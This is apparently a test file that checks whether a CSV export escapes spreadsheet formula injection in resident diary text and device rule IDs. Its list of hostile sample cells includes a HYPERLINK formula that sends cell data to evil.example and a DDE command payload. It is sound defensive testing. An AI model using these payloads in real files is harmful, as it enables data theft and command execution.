/**
 * Issue 11 item 12: CSV formula injection (OWASP "CSV Injection"). Text that a
 * resident or a device supplied must not reach a spreadsheet as a formula: a
 * text cell starting with = + - @, tab or CR is prefixed with a single quote.
 * Numbers (a negative exceedance, a level of -3.5 dB) stay numbers.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvField, writeBundle } from '../../src/bundle/index.ts';
import type { BundleModel } from '../../src/bundle/model.ts';
import { parseCsv } from '../../src/cases/csv.ts';
import { readZipEntries, smallCase } from './helpers.ts';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

describe('CSV cells (item 12)', () => {
  it('prefixes text cells that start like a formula with a single quote and leaves numbers as numbers', () => {
    for (const s of HOSTILE) {
      const cell = csvField(s);
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
      expect(unquoted).toBe(`'${s}`);
    }
    expect(csvField(-3.5)).toBe('-3.5');
    expect(csvField('Loud music')).toBe('Loud music');
    expect(csvField('2026-03-28T12:00:00.000Z')).toBe('2026-03-28T12:00:00.000Z');
  });

  it('no cell of any CSV in a bundle starts like a formula, the text stays readable, negative numbers stay', async () => {
    const c = smallCase();
    const model = c.source.model as { -readonly [K in keyof BundleModel]: BundleModel[K] };
    const diary = model.diary.map((d, i) => ({ ...d, text: HOSTILE[i % HOSTILE.length]! }));
    // The rule id is sent by the device (its configuration), so it is not to be trusted either.
    const events = model.events.map((e, i) => ({ ...e, ruleId: HOSTILE[i % HOSTILE.length]!, exceedanceDb: i === 0 ? -3.5 : e.exceedanceDb }));
    const source = { ...c.source, model: { ...model, diary, events } as BundleModel };
    const bundle = await writeBundle(source, { outDir: join(c.dir, 'out') });
    const csvs = (await readZipEntries(bundle.path)).filter((e) => e.name.endsWith('.csv'));
    expect(csvs.map((e) => e.name).sort()).toEqual(['data/diary.csv', 'data/events.csv', 'data/levels.csv', 'data/nights.csv']);
    const cells = new Map<string, string[][]>();
    for (const e of csvs) {
      const parsed = parseCsv(e.bytes.toString('utf8'));
      if (!parsed.ok) throw new Error(`${e.name}: ${parsed.problem}`);
      cells.set(e.name, parsed.records.map((r) => [...r.fields]));
      for (const r of parsed.records) for (const f of r.fields) if (!NUMBER.test(f)) expect(f, `${e.name} line ${r.line}`).not.toMatch(FORMULA_START);
    }
    const diaryRows = cells.get('data/diary.csv')!;
    const text = diaryRows[0]!.indexOf('text');
    expect(diaryRows.slice(1).map((r) => r[text])).toEqual(diary.map((d) => `'${d.text}`));
    const eventRows = cells.get('data/events.csv')!;
    const [rule, exceedance] = [eventRows[0]!.indexOf('rule_id'), eventRows[0]!.indexOf('exceedance_db')];
    expect(eventRows.slice(1).map((r) => r[rule])).toEqual(events.map((e) => `'${e.ruleId}`));
    expect(eventRows[1]![exceedance]).toBe('-3.5');
  });
});
